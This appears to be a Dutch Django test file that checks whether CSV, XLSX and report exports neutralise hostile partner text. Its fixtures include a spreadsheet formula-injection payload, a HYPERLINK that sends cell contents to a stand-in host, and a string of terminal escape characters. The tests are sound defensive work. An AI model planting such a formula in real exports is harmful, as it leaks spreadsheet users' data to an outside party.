"""Hostile partner text in every export path (issue 16, findings 6 and 7): a formula stays text and a
control character never breaks an XLSX, a job-made export or the report job."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from activiteiten.exports import services as export_services
from activiteiten.models import ExportBestand
from tests.factories import ActieFactory
from zorgnet.lib.taakrecords import TaakStatus
from zorgnet.rapport import services as rapport_services
from zorgnet.rapport.models import RapportBestand

pytestmark = pytest.mark.django_db

FORMULE = '=HYPERLINK("https://kwaad.example/?d="&A1,"Klik hier")'
STUURTEKENS = "Buurtsoep\x0b met \x1b[31m kleur"


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def vijandig(wereld):
    vandaag = timezone.localdate()
    for titel in (FORMULE, STUURTEKENS):
        ActieFactory(
            buurt=wereld.buurt_a,
            trekker=wereld.partner,
            titel=titel,
            status="afgerond",
            startdatum=vandaag - timedelta(days=3),
            verhaal=f"{titel} verhaal",
            toestemming_verhaal=True,
            deelnemers=12,
        )
    return wereld


def _url(buurt, formaat):
    return reverse("activiteiten:actie_export", args=(buurt.id,)) + f"?formaat={formaat}"


def test_de_csv_export_schrijft_formules_als_tekst(vijandig, als):
    antwoord = als(vijandig.regisseur_a).get(_url(vijandig.buurt_a, "csv"))
    tekst = b"".join(antwoord.streaming_content).decode("utf-8-sig")
    titels = {r[1] for r in list(csv.reader(io.StringIO(tekst), delimiter=";"))[1:]}
    assert "'" + FORMULE in titels and FORMULE not in titels
    assert "\x0b" not in tekst and "\x1b" not in tekst


def test_de_xlsx_export_antwoordt_200_zonder_formules(vijandig, als):
    antwoord = als(vijandig.regisseur_a).get(_url(vijandig.buurt_a, "xlsx"))
    assert antwoord.status_code == 200
    blad = load_workbook(io.BytesIO(antwoord.content))["acties"]
    cellen = [c for rij in blad.iter_rows(min_row=2) for c in rij]
    assert not [c for c in cellen if c.data_type == "f"]
    assert "'" + FORMULE in {c.value for c in cellen}
    assert "Buurtsoep met [31m kleur" in {c.value for c in cellen}


def test_de_export_als_taak_lukt_met_stuurtekens(vijandig):
    bestand = ExportBestand.objects.create(
        buurt=vijandig.buurt_a, aangevraagd_door=vijandig.regisseur_a
    )
    export_services.maak_exportbestand(bestand_id=bestand.id)
    bestand.refresh_from_db()
    assert bestand.status == TaakStatus.KLAAR, bestand.fout
    assert bestand.aantal_rijen == 2


@pytest.mark.parametrize("formaat", ["pdf", "xlsx"])
def test_het_rapport_lukt_met_stuurtekens_en_formules(vijandig, formaat):
    vandaag = timezone.localdate()
    bestand = RapportBestand.objects.create(
        gemeente=vijandig.gemeente_1,
        buurt=vijandig.buurt_a,
        van=vandaag - timedelta(days=30),
        tot=vandaag,
        formaat=formaat,
    )
    rapport_services.maak_bestand(bestand_id=bestand.id)
    bestand.refresh_from_db()
    assert bestand.status == TaakStatus.KLAAR, bestand.fout
    if formaat == "xlsx":
        with bestand.bestand.open("rb") as f:
            boek = load_workbook(io.BytesIO(f.read()))
        cellen = [c for blad in boek.worksheets for rij in blad.iter_rows() for c in rij]
        assert not [c for c in cellen if c.data_type == "f"]
